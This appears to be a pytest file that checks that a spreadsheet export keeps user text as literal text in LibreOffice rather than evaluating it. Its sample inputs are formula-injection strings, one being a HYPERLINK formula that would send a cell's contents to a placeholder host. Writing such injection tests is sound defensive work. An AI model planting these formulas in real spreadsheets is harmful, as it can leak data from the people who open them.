"""The exported workbook in a real spreadsheet program: LibreOffice Calc, headless (skipped without it)."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import pytest

from cyberassess.matrix import apply_import, export_matrix, plan_import, read_matrix
from cyberassess.store import Assessment

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
pytestmark = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")

HOSTILE = {
    "D1.1.1": "=1+1",
    "D1.1.2": '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "D1.2.1": "@SUM(1,2)",
    "D2.1.1": "-2+3",
    "D2.1.2": "+4*2",
}


def _convert(source: Path, target_format: str, folder: Path) -> Path:
    """Convert with a private profile (so parallel runs do not share one) and return the output."""
    assert SOFFICE is not None
    folder.mkdir(parents=True, exist_ok=True)
    profile = (folder / "profile").resolve().as_uri()
    result = subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation={profile}",
            "--headless",
            "--norestore",
            "--convert-to",
            target_format,
            "--outdir",
            str(folder),
            str(source),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    produced = [p for p in folder.iterdir() if p.is_file() and p.stem.startswith(source.stem)]
    assert result.returncode == 0 and produced, result.stdout + result.stderr
    return produced[0]


@pytest.fixture
def hostile_matrix(mini_doc: Assessment, tmp_path: Path) -> Path:
    for indicator_id, text in HOSTILE.items():
        mini_doc.set_answer(indicator_id, 3, justification=text, assessor="=Ada", confidence="high")
    return export_matrix(mini_doc, tmp_path / "hostile.xlsx")


def test_libreoffice_opens_it_and_shows_user_text_as_text(hostile_matrix: Path, tmp_path: Path) -> None:
    # every sheet to its own CSV (LibreOffice 7.2+: the 12th token -1), values as shown
    out = tmp_path / "csv"
    _convert(hostile_matrix, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", out)
    sheets = {p.name: list(csv.reader(p.open(encoding="utf-8"))) for p in out.glob("*.csv")}
    d1 = next(rows for name, rows in sheets.items() if "D1" in name)
    d2 = next(rows for name, rows in sheets.items() if "D2" in name)
    shown = {row[0]: row for row in d1 + d2 if row and row[0] in HOSTILE}
    assert set(shown) == set(HOSTILE)
    for indicator_id, text in HOSTILE.items():
        assert shown[indicator_id][3] == text  # the literal text, never a computed value
        assert shown[indicator_id][5] == "=Ada"
        assert shown[indicator_id][2] == "3 - Established"


def test_libreoffice_renders_it_to_pdf(hostile_matrix: Path, tmp_path: Path) -> None:
    pdf = _convert(hostile_matrix, "pdf", tmp_path / "pdf")
    assert pdf.suffix == ".pdf" and pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 5000


def test_a_workbook_saved_again_by_libreoffice_imports_unchanged(
    hostile_matrix: Path, mini_doc: Assessment, tmp_path: Path
) -> None:
    resaved = _convert(hostile_matrix, "xlsx:Calc MS Excel 2007 XML", tmp_path / "resaved")
    content = read_matrix(resaved)
    assert not content.rejected
    assert {r.indicator_id: r.justification for r in content.rows} == HOSTILE
    assert content.hash_status == "unchanged"  # LibreOffice kept every answer cell as it was
    plan = plan_import(mini_doc, resaved)
    assert plan.unchanged == len(HOSTILE) and not plan.conflicts and not plan.new
    assert apply_import(mini_doc, plan).applied == 0
